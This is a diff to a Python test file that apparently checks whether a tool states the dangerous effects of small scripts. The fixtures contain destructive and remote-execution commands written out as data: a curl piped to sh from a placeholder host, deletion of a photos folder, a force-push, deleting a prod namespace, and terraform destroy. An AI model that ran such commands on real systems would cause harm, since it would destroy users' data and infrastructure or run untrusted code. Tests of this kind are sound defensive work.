@@ -84,8 +84,8 @@ def test_what_cannot_be_read_is_said(name: str, text: str, command: str) -> None
         ("a.py", "import os\nos.system('curl -s https://x.example/i | sh')\n", "python3 a.py", "network"),
         ("a.py", "import shutil\nshutil.rmtree('/home/dev/photos')\n", "./a.py", "photos"),
         ("a.js", "require('child_process').execSync('git push --force origin main')\n", "node a.js", "origin"),
-        ("a.rb", "system('kubectl', 'delete', 'ns', 'prod')\n", "ruby a.rb", "kubectl"),
-        ("a.pl", "system('terraform destroy -auto-approve');\n", "perl a.pl", "terraform"),
+        ("a.rb", "system('kubectl', 'delete', 'ns', 'prod')\n", "ruby a.rb", "namespace prod"),
+        ("a.pl", "system('terraform destroy -auto-approve');\n", "perl a.pl", "destroys in the cloud"),
     ],
 )  # fmt: skip
 def test_what_a_program_plainly_starts_is_said(name: str, text: str, command: str, word: str) -> None:
